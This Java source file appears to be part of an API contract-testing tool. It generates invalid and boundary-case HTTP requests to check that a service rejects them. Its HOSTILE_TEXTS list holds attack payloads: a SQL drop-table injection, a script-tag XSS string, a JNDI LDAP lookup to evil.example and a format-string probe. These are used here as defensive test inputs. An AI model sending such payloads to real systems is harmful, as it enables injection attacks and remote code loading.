package kinoteka.quickstart.contract;

import static java.util.Objects.requireNonNull;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Derives invalid requests from a valid one. */
final class InvalidRequests {

    /** Not numbers, or other spellings of numbers than the only valid one. {@code %EF%BC%91%EF%BC%96} is 16 in full-width digits. */
    private static final List<String> INVALID_NUMBERS = List.of(
            "x",
            "1e3",
            "1.5x",
            "0x10",
            "%2310",
            "+7",
            "%2B7",
            "07",
            "%207",
            "7%20",
            "1,2",
            "%EF%BC%91%EF%BC%96",
            "%D9%A3",
            "");

    private static final List<String> INVALID_IDS = Stream.concat(
                    INVALID_NUMBERS.stream().filter(id -> !id.isEmpty()),
                    Stream.of("0", "-1", "9223372036854775808", "1.5", "1.0", "%00", "%27", "1;a=b"))
            .toList();
    private static final Map<String, List<String>> INVALID_VALUES = Map.of(
            "integer", concat(INVALID_NUMBERS, "-1", "1.0", "99999999999999999999"),
            "number", concat(INVALID_NUMBERS, "-1", "9", "4.", ".4", "4e0"),
            "array", List.of("nothing", "", ",", "STAFF,", "%20"),
            "string", List.of("%00", "", "%ff", "%C3"));
    private static final List<String> HOSTILE_TEXTS = List.of(
            "'; drop table movies; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "%s%n", "🎬");

    private static final String STALE = "\"stale\"";

    private final Document document;

    InvalidRequests(Document document) {
        this.document = document;
    }

    List<Request> derive(Operation operation, Request valid) {
        List<Request> invalid = new ArrayList<>();
        addInvalidTargets(operation, valid, invalid::add);
        addInvalidHeaders(operation, valid, invalid::add);
        boolean isConditional = operation.parameters("header").stream()
                .anyMatch(parameter -> parameter.get("name").asString().equals("If-Match"));
        operation
                .body()
                .ifPresent(schema ->
                        addInvalidBodies(schema, isConditional ? valid.with("If-Match", STALE) : valid, invalid::add));
        return invalid;
    }

    private static void addInvalidTargets(Operation operation, Request valid, Consumer<Request> add) {
        if (operation.path().contains("{")) {
            var segment = operation.path().split("/", -1);
            var sent = valid.target().split("[?]", 2)[0].split("/", -1);
            for (int i = 0; i < segment.length; i++) {
                if (segment[i].startsWith("{")) {
                    for (var id : INVALID_IDS) {
                        var changed = sent.clone();
                        changed[i] = id;
                        add.accept(valid.withTarget(String.join("/", changed)).thatMustFail());
                    }
                }
            }
        }
        var path = valid.target().split("[?]", 2)[0];
        for (var parameter : operation.parameters("query")) {
            var name = parameter.get("name").asString();
            requireNonNull(INVALID_VALUES.get(ValueGenerator.type(parameter.get("schema"))))
                    .forEach(value -> add.accept(
                            valid.withTarget(path + "?" + name + "=" + value).thatMustFail()));
            add.accept(
                    valid.withTarget(path + "?" + name + "=1&" + name + "=2x").thatMustFail());
            add.accept(valid.withTarget(path + "?" + name).thatMustFail());
        }
        for (var unknown : List.of("invented", "limit[]", "_limit", "%00", "LIMIT")) {
            add.accept(valid.withTarget(path + "?" + unknown + "=1").thatMustFail());
        }
    }

    private static void addInvalidHeaders(Operation operation, Request valid, Consumer<Request> add) {
        if (operation.needsToken()) {
            add.accept(valid.without("Authorization").thatMustFail());
            add.accept(valid.with("Authorization", "Basic YTpi").thatMustFail());
        }
        add.accept(valid.with("Authorization", "Bearer nonsense").thatMustFail());
        for (var parameter : operation.parameters("header")) {
            var name = parameter.get("name").asString();
            if (!name.equals("Last-Event-ID")) {
                add.accept(valid.with(name, "no tag").thatMustFail());
            }
            if (name.equals("If-Match")) {
                add.accept(valid.with(name, STALE).expecting(Request.Outcome.REJECTED_OR_OUTDATED));
            }
        }
        add.accept(valid.with("Accept", "image/png").thatMustFail());
        if (operation.body().isPresent()) {
            add.accept(valid.with("Content-Type", "text/plain").thatMustFail());
            add.accept(valid.with("Content-Type", "nonsense").thatMustFail());
        }
    }

    private void addInvalidBodies(JsonNode schema, Request valid, Consumer<Request> add) {
        var body = (ObjectNode) Document.JSON.readTree(valid.body());
        var text = body.toString();
        for (var malformed : List.of(
                "",
                "{",
                "[]",
                "null",
                "\"text\"",
                "7",
                text + "{}",
                "[".repeat(5000),
                text.substring(1),
                text.replaceFirst("\\{", "{\"id\":1,\"id\":2,"))) {
            add.accept(valid.withBody(malformed).thatMustFail());
        }
        var described = document.resolve(schema);
        for (var name : List.of("invented", "id")) {
            if (!described.get("properties").has(name)) {
                add.accept(valid.withBody(changed(body, name, Document.JSON.nullNode()))
                        .thatMustFail());
                add.accept(valid.withBody(changed(
                                body, name, Document.JSON.getNodeFactory().numberNode(1)))
                        .thatMustFail());
            }
        }
        described.path("required").forEach(name -> {
            var fewer = body.deepCopy();
            fewer.remove(name.asString());
            add.accept(valid.withBody(fewer.toString()).thatMustFail());
        });
        described.get("properties").properties().stream()
                .filter(property -> !property.getValue().path("readOnly").asBoolean(false))
                .forEach(property -> addInvalidValues(body, property, valid, add));
    }

    private void addInvalidValues(
            ObjectNode body, Map.Entry<String, JsonNode> property, Request valid, Consumer<Request> add) {
        var name = property.getKey();
        var nodes = Document.JSON.getNodeFactory();
        for (var value : List.of(
                nodes.numberNode(-1),
                nodes.numberNode(Long.MAX_VALUE),
                nodes.numberNode(1.0e15),
                nodes.numberNode(0.001),
                nodes.booleanNode(true),
                nodes.nullNode(),
                nodes.arrayNode().add(1),
                nodes.objectNode().put("a", 1),
                nodes.stringNode(""),
                nodes.stringNode("x".repeat(300_000)))) {
            var request = valid.withBody(changed(body, name, value));
            boolean isAllowed = document.errors(property.getValue(), value).isEmpty();
            add.accept(isAllowed ? request : request.thatMustFail());
        }
        if (ValueGenerator.type(property.getValue()).equals("string")) {
            HOSTILE_TEXTS.forEach(text -> add.accept(valid.withBody(changed(body, name, nodes.stringNode(text)))));
            for (var escape : List.of("\\u0000", "\\ud800", "\\udc00\\ud800")) {
                var unstorable =
                        changed(body, name, nodes.stringNode("UNSTORABLE")).replace("UNSTORABLE", "a" + escape);
                add.accept(valid.withBody(unstorable).thatMustFail());
            }
            add.accept(valid.withBody(changed(body, name, nodes.stringNode("x".repeat(1 << 20))))
                    .thatMustFail());
        }
    }

    private static List<String> concat(List<String> some, String... more) {
        return Stream.concat(some.stream(), Stream.of(more)).toList();
    }

    private static String changed(ObjectNode body, String name, JsonNode value) {
        var other = body.deepCopy();
        other.set(name, value);
        return other.toString();
    }
}
